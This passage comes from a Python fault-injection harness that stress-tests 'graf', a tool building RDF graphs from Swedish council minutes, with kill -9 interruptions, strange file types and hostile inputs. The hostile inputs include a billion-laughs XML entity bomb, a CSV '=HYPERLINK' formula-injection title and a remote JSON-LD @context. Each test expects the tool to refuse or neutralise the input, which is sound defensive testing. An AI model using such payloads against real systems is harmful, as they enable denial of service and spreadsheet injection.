                "exit≠0, no half graph, re-push equal", lambda point=point: kill9_mid_push(point))

    def per_paper() -> tuple[str, bool]:
        ox = fresh()
        first = {g for g in ox.graphs() if "/graph/paper/" in g}
        r2 = graf("push", "--data", str(papers["second"]), "--endpoint", ox.url + "/update", "--graph-per-paper")
        second = {g for g in ox.graphs() if "/graph/paper/" in g}
        r3 = graf("push", "--data", str(papers["one"]), "--endpoint", ox.url + "/update", "--graph-per-paper")
        third = {g for g in ox.graphs() if "/graph/paper/" in g}
        ox.kill()
        ok = len(first) == 2 and second == first and len(third) == 1 and r2.returncode == 0 and r3.returncode == 0
        return f"graphs: {len(first)} -> corrected {len(second)} (same names={second == first}) -> 1 paper {len(third)}", ok
    attempt(s, "--graph-per-paper: corrected paper, then one vanished", "2 -> 2 same names -> 1", per_paper)

    def login_in_url() -> tuple[str, bool]:
        r = graf("push", "--data", str(papers["one"]), "--endpoint", "http://anna:hemligt-123@127.0.0.1:9/update")
        return f"exit {r.returncode}, echoed={'hemligt-123' in r.stderr + r.stdout}", \
            r.returncode != 0 and "hemligt-123" not in r.stderr + r.stdout
    attempt(s, "password inside the endpoint URL", "refused, never echoed", login_in_url)


# ----------------------------------------------------------------------------- build


PAPER = ("Protokoll {n}/2031\nfört vid Fritidsnämndens sammanträde den 4 mars 2031\n\n"
         "Närvarande\nOrdförande Ulla Strand (C)\nLedamöter Per Ek (S), Åsa Lind (M)\n\n"
         "§ {n} Ny isbana {n}\nFRN 2031/{n}\n\nBeslut\n\nNämnden godkänner förslaget enligt 6 kap. 34 § "
         "kommunallagen (2017:725).\n")


def store_quads(store: Path) -> list[str]:
    """Every quad of a store (the folder is pyoxigraph's), sorted, for equality."""
    import pyoxigraph as ox

    return sorted(str(q) for q in ox.Store.read_only(str(store)))


def build_attacks(tmp: Path, kill_points: int) -> None:
    s = "build"

    def odd_folder() -> tuple[str, bool]:
        folder = tmp / "odd"
        folder.mkdir()
        (folder / "good.txt").write_text(PAPER.format(n=1), encoding="utf-8")
        (folder / "loop.txt").symlink_to(folder / "loop.txt")
        (folder / "zero.txt").symlink_to("/dev/zero")
        (folder / "broken.txt").symlink_to(folder / "nowhere.txt")
        os.mkfifo(folder / "pipe.txt")
        (folder / "up").symlink_to(folder)
        (folder / "dir.txt").mkdir()
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(str(folder / "sock.txt"))
        (folder / os.fsdecode(b"m\xf6te.txt")).write_text(PAPER.format(n=2), encoding="utf-8")
        (folder / "empty.txt").write_bytes(b"")
        (folder / "binary.pdf").write_bytes(b"%PDF-1.4\n" + os.urandom(2000))
        started = time.monotonic()
        try:
            r = graf("build", str(folder), "--out", str(tmp / "odd.nq"), timeout=300)
        finally:
            sock.close()
        took = time.monotonic() - started
        lines = [ln for ln in r.stderr.splitlines() if ln.strip()]
        named = [n for n in ("loop.txt", "zero.txt", "pipe.txt", "sock.txt", "broken.txt") if
                 sum(1 for ln in lines if n in ln) == 1]
        ok = r.returncode == 0 and "built 2 paper(s)" in r.stderr and len(named) == 5 and "Traceback" not in r.stderr
        return f"exit {r.returncode} in {took:.0f} s, one line each for {len(named)}/5, built 2", ok
    attempt(s, "folder: link loop, /dev/zero link, FIFO, socket, broken link, "
               "folder link up, non-UTF-8 name, dir named .txt, empty, junk PDF",
            "exit 0, 2 built, one line each", odd_folder)

    def full_disk() -> tuple[str, bool]:
        mount = tmp / "small"
        mount.mkdir()
        if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)],
                          capture_output=True).returncode != 0:
            return "no tmpfs mount here (covered by test_full_disk_is_one_line_naming_the_path)", True
        try:
            src = tmp / "many"
            src.mkdir()
            for i in range(30):
                (src / f"p{i}.txt").write_text(PAPER.format(n=i + 1) * 3, encoding="utf-8")
            r = graf("build", str(src), "--out", str(mount / "o.nq"), timeout=300)
            last = r.stderr.strip().splitlines()[-1] if r.stderr.strip() else ""
            ok = r.returncode == 1 and "internal error" not in r.stderr and "o.nq" in last \
                and "space" in last.lower() and "Traceback" not in r.stderr
            return f"exit {r.returncode}: {last[:60]}", ok
        finally:
            subprocess.run(["umount", str(mount)], capture_output=True)
    attempt(s, "full disk under --out (64 kB tmpfs)", "exit 1, one line naming the path", full_disk)

    def moved_folder() -> tuple[str, bool]:
        old = tmp / "old"
        old.mkdir()
        (old / "a.txt").write_text(PAPER.format(n=7), encoding="utf-8")
        (old / "b.txt").write_text(PAPER.format(n=9).replace("isbana", "simhall"), encoding="utf-8")
        store = tmp / "moved-store"
        graf("build", str(old), "--store", str(store), "-q")
        new = tmp / "new"
        old.rename(new)
        (new / "b.txt").unlink()
        r = graf("build", str(new), "--store", str(store))
        out = graf("query", "items", "--store", str(store), "--format", "csv").stdout.lower()
        return f"{'simhall' in out and 'stale triples' or 'no stale triples'}; '{r.stderr.strip()[-40:]}'", \
            "simhall" not in out and "isbana" in out
    attempt(s, "papers folder moved, one paper deleted, rebuild", "deleted paper's triples gone", moved_folder)

    src = tmp / "kill-src"
    src.mkdir()
    for i in range(12):
        (src / f"p{i:02d}.txt").write_text(PAPER.format(n=i + 1) * 2, encoding="utf-8")
    shutil.copytree(ROOT / "examples", src / "examples")
    clean = tmp / "clean-store"
    started = time.monotonic()
    graf("build", str(src), "--store", str(clean), "-q", "--workers", "1")
    clean_seconds = time.monotonic() - started
    want = store_quads(clean)

    def kill9(point: float) -> tuple[str, bool]:
        store = tmp / f"killed-{point:.2f}"
        proc = subprocess.Popen([*GRAF, "build", str(src), "--store", str(store), "-q", "--workers", "1"],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(point * clean_seconds)
        killed = proc.poll() is None
        if killed:
            proc.send_signal(signal.SIGKILL)
        proc.wait(30)
        r = graf("build", str(src), "--store", str(store), "-q", "--workers", "1")
        got = store_quads(store)
        return (f"{'killed' if killed else 'had finished'}; rebuild exit {r.returncode}, "
                f"{len(got)} quads, equal={got == want}"), r.returncode == 0 and got == want
    for k in range(kill_points):
        point = (k + 1) / (kill_points + 1)
        attempt(s, f"kill -9 at {point:.0%} of a build, then rebuild", f"= clean build ({len(want)} quads)",
                lambda point=point: kill9(point))

    def concurrent() -> tuple[str, bool]:
        store = tmp / "twice"
        cmd = [*GRAF, "build", str(src), "--store", str(store), "--workers", "1"]
        a = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        time.sleep(0.2)
        b = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        _, ea = a.communicate(timeout=600)
        _, eb = b.communicate(timeout=600)
        codes = sorted((a.returncode, b.returncode))
        refusal = (eb if b.returncode else ea).strip().splitlines()[-1:] or [""]
        got = store_quads(store)
        ok = codes[0] == 0 and codes[1] != 0 and "Traceback" not in ea + eb and got == want
        return f"exits {codes}: '{refusal[0][:45]}'; store equal={got == want}", ok
    attempt(s, "two builds into one store at once", "one refuses cleanly; store = clean", concurrent)


# ----------------------------------------------------------------------------- hostile inputs


def input_attacks(tmp: Path) -> None:
    s = "input"
    from graf.sources import source_from_text

    for mark, name in (("\u200b", "ZWSP"), ("\u200e", "LRM"), ("\u200f", "RLM"), ("\u2060", "WJ"),
                       ("\ufeff", "BOM"), ("\u00ad", "SHY"), ("\u202e", "RLO")):
        def fold(mark: str = mark) -> tuple[str, bool]:
            text = f"Ordförande Ul{mark}la Strand (C)\n{mark}§ 12 Ärende\nDnr FRN 2031/{mark}88\n"
            out = source_from_text(text).text
            ok = "Ulla Strand" in out and "\n§ 12" in out and "2031/88" in out
            return "surname, § and dnr intact" if ok else repr(out[:60]), ok
        attempt(s, f"{name} inside a surname, beside §, inside a dnr", "folded out", fold)

    def cf_end_to_end() -> tuple[str, bool]:
        paper = tmp / "cf.txt"
        paper.write_text(PAPER.format(n=5).replace("Strand", "Str\u200band").replace("§ 5", "\u200e§ 5")
                         .replace("2031/5", "2031/\u200b5"), encoding="utf-8")
        graf("build", str(paper), "--out", str(tmp / "cf.nq"), "-q")
        persons = graf("query", "persons", "--data", str(tmp / "cf.nq"), "--format", "csv").stdout
        items = graf("query", "items", "--data", str(tmp / "cf.nq"), "--format", "csv").stdout
        ok = "Ulla Strand" in persons and "2031/5" in items and "Ny isbana" in items
        return f"person={'Ulla Strand' in persons}, item={'Ny isbana' in items}, dnr={'2031/5' in items}", ok
    attempt(s, "Cf marks through graf build + query", "person, § and dnr found", cf_end_to_end)

    def encrypted() -> tuple[str, bool]:
        from pypdf import PdfWriter

        results = []
        for algorithm in ("RC4-128", "AES-256"):
            w = PdfWriter()
            w.add_blank_page(100, 100)
            w.encrypt("hemligt", algorithm=algorithm)
            buf = io.BytesIO()
            w.write(buf)
            p = tmp / f"enc-{algorithm}.pdf"
            p.write_bytes(buf.getvalue())
            r = graf("build", str(p), "--out", str(tmp / "enc.nq"))
            results.append("needs a password" in r.stderr)
        return f"message names the password: {results}", all(results)
    attempt(s, "password-protected PDF (RC4, AES-256)", "'encrypted; needs a password'", encrypted)

    def owner_only() -> tuple[str, bool]:
        from pypdf import PdfWriter

        w = PdfWriter()
        w.add_blank_page(100, 100)
        w.encrypt("", owner_password="ägare", algorithm="AES-128")
        buf = io.BytesIO()
        w.write(buf)
        p = tmp / "owner.pdf"
        p.write_bytes(buf.getvalue())
        r = graf("build", str(p), "--out", str(tmp / "owner.nq"))
        return r.stderr.strip().splitlines()[-1][:60] if r.stderr.strip() else "", "no text layer" in r.stderr
    attempt(s, "AES PDF with only an owner password", "opens (blank page: no text layer)", owner_only)

    def entity_bomb() -> tuple[str, bool]:
        levels = "".join(f'<!ENTITY e{i} "{("&e" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
        bomb = tmp / "bomb.rdf"
        bomb.write_text('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e0 "ha">' + levels + ']>\n'
                        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
                        'xmlns:e="http://x.invalid/"><rdf:Description rdf:about="http://x.invalid/s">'
                        '<e:p>&e9;</e:p></rdf:Description></rdf:RDF>\n', encoding="utf-8")
        rows = []
        for cmd in (("validate", str(bomb)), ("query", "meetings", "--data", str(bomb)),
                    ("export", str(bomb), "--out-dir", str(tmp / "bomb-out"))):
            started = time.monotonic()
            r = graf(*cmd, timeout=120)
            rows.append((cmd[0], r.returncode, time.monotonic() - started, "entit" in r.stderr))
        ok = all(code == 2 and took < 30 and said for _, code, took, said in rows)
        return "; ".join(f"{c} exit {code} {took:.0f} s" for c, code, took, _ in rows), ok
    attempt(s, "1 kB RDF/XML billion-laughs (validate, query, export)", "refused at once", entity_bomb)

    def bomb_served() -> tuple[str, bool]:
        bomb = tmp / "bomb.rdf"
        port = free_port()
        r = subprocess.run([*GRAF, "serve", "--data", str(bomb), "--port", str(port)], capture_output=True,
                           text=True, timeout=120)
        return f"exit {r.returncode}: {r.stderr.strip()[-50:]}", r.returncode == 2 and "entit" in r.stderr
    attempt(s, "RDF/XML entity bomb given to graf serve", "refused at start", bomb_served)

    def remote_context() -> tuple[str, bool]:
        witness = Listener()
        try:
            p = tmp / "remote.jsonld"
            p.write_text(json.dumps({"@context": f"http://127.0.0.1:{witness.port}/c.jsonld",
                                     "@id": "http://x.invalid/s", "n": "x"}), encoding="utf-8")
            r = graf("validate", str(p), timeout=120)
            time.sleep(0.3)
        finally:
            witness.close()
        return f"exit {r.returncode}, {witness.connections} fetches", \
            r.returncode == 2 and witness.connections == 0 and "never fetches" in r.stderr
    attempt(s, "JSON-LD with a remote @context", "refused, nothing fetched", remote_context)

    def csv_query() -> tuple[str, bool]:
        paper = tmp / "formula.txt"
        paper.write_text(PAPER.format(n=3).replace("Ny isbana 3", "=HYPERLINK(\"http://x.invalid\")"),
                         encoding="utf-8")
        graf("build", str(paper), "--out", str(tmp / "formula.nq"), "-q")
        out = graf("query", "items", "--data", str(tmp / "formula.nq"), "--format", "csv").stdout
        cells = [c for line in out.splitlines() for c in line.split(",")]
        live = [c for c in cells if c[:1] in ("=", "+", "@") or c[:2] in ('"=', '"+', '"@')]
        return f"{'HYPERLINK' in out and 'present' or 'absent'}, {len(live)} live formula cells", \
            "HYPERLINK" in out and not live
    attempt(s, "=HYPERLINK(…) title through graf query --format csv", "prefixed with '", csv_query)

    def dense() -> tuple[str, bool]:
        from test_linear_scans import citation_paragraph, dnr_line

        from graf.grammar.dnr import find_dnr
        from graf.nlp.citations import find_citations

        rows = []
        def citations(text: str, start: int, end: int) -> object:
            return find_citations(text[start:end])

        for name, make, fn in (("citations", citation_paragraph, citations), ("dnr", dnr_line, find_dnr)):
            unit = len(make(10)) / 10
            small, large = make(int(200_000 / unit)), make(int(2_000_000 / unit))
            t0 = time.process_time()
            fn(small, 0, len(small))
            t1 = time.process_time()
            fn(large, 0, len(large))
            t2 = time.process_time()
            rows.append((name, t1 - t0, t2 - t1))
        ok = all(b < 20 * max(a, 0.05) and b < 120 for _, a, b in rows)
        return "; ".join(f"{n} 0.2 MB {a:.1f} s, 2 MB {b:.1f} s" for n, a, b in rows), ok
    attempt(s, "entity-dense 0.2 MB vs 2 MB (citations, dnr)", "≈10x time (linear)", dense)

    def time_budget() -> tuple[str, bool]:
        big = tmp / "budget"
        big.mkdir()
        (big / "big.txt").write_text(PAPER.format(n=4) + "Nämnden noterar. " * 150_000, encoding="utf-8")
        (big / "small.txt").write_text(PAPER.format(n=6), encoding="utf-8")
        started = time.monotonic()
        r = graf("build", str(big), "--out", str(tmp / "budget.nq"), env={"GRAF_FILE_SECONDS": "2"}, timeout=300)
        took = time.monotonic() - started
        ok = "took longer than 2 s" in r.stderr and "built 1 paper(s)" in r.stderr
        return f"exit {r.returncode} in {took:.0f} s; over-budget paper skipped={ok}", ok
    attempt(s, "a paper over its time budget (GRAF_FILE_SECONDS=2)", "skipped with one line, others built",
            time_budget)


# ----------------------------------------------------------------------------- main


def write_results(figures: dict[str, float] | None, clients: int, seconds: float) -> None:
    from scaleout import machine, write_section

    lines = ["## Attack table, session 4 (`bench/faults.py`)", "",
             f"Run {time.strftime('%Y-%m-%d %H:%M')} with `bench/faults.py --write`. {machine()}", "",
             "| area | attack | expected | observed | verdict |", "| --- | --- | --- | --- | --- |"]
    for row in ROWS:
        cells = [row.section, row.attack, row.expected, row.observed, row.verdict]
        lines.append("| " + " | ".join(c.replace("|", "\\|") for c in cells) + " |")
    failed = sum(1 for r in ROWS if not r.ok)
    lines += ["", f"{len(ROWS)} attacks, {len(ROWS) - failed} as expected, {failed} not."]
    if figures:
        lines += ["", f"Load: {clients} clients for {seconds:g} s on loopback (an IRI page, an ASK, a small SELECT "
                      "in turn; client threads share the 2 cores with the server):", "",
                  "| requests | req/s | p50 | p95 | non-200 | listen overflows |", "| --- | --- | --- | --- | --- | --- |",
                  f"| {figures['requests']:,.0f} | {figures['rps']:.0f} | {figures['p50_ms']:.0f} ms | "
                  f"{figures['p95_ms']:.0f} ms | {figures['errors']:.0f} | {figures['overflows']:.0f} |"]
    write_section("attacks", lines)


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--only", default="serve,load,push,build,input")
    ap.add_argument("--clients", type=int, default=50)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--kill-points", type=int, default=14)
    ap.add_argument("--write", action="store_true", help="put the table and load figures into bench/RESULTS.md")
    args = ap.parse_args()
    only = set(args.only.split(","))
    figures = None
    print(f"{'area':6} | {'attack':58} | {'expected':30} | {'observed':70} | verdict")
    with tempfile.TemporaryDirectory() as name:
        tmp = Path(name)
        if only & {"serve", "load"}:
            srv = Served(tmp)
            try:
                if "serve" in only:
                    serve_attacks(srv)
                if "load" in only:
                    overflows = listen_overflows()
                    figures = load(srv, args.clients, args.seconds)
                    figures["overflows"] = figures["overflows"] - overflows if overflows >= 0 else -1
                    print(f"load: {args.clients} clients, {args.seconds:g} s: {figures['requests']:.0f} requests, "
                          f"{figures['rps']:.0f} req/s, p50 {figures['p50_ms']:.0f} ms, p95 {figures['p95_ms']:.0f} ms, "
                          f"{figures['errors']:.0f} non-200, {figures['overflows']:.0f} listen overflows", flush=True)
            finally:
                srv.close()
        if "push" in only:
            push_attacks(tmp)
        if "build" in only:
            build_attacks(tmp, args.kill_points)
        if "input" in only:
            input_attacks(tmp)
    failed = [r for r in ROWS if not r.ok]
    print(f"{len(ROWS)} attacks, {len(ROWS) - len(failed)} as expected, {len(failed)} not")
    if args.write:
        write_results(figures, args.clients, args.seconds)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
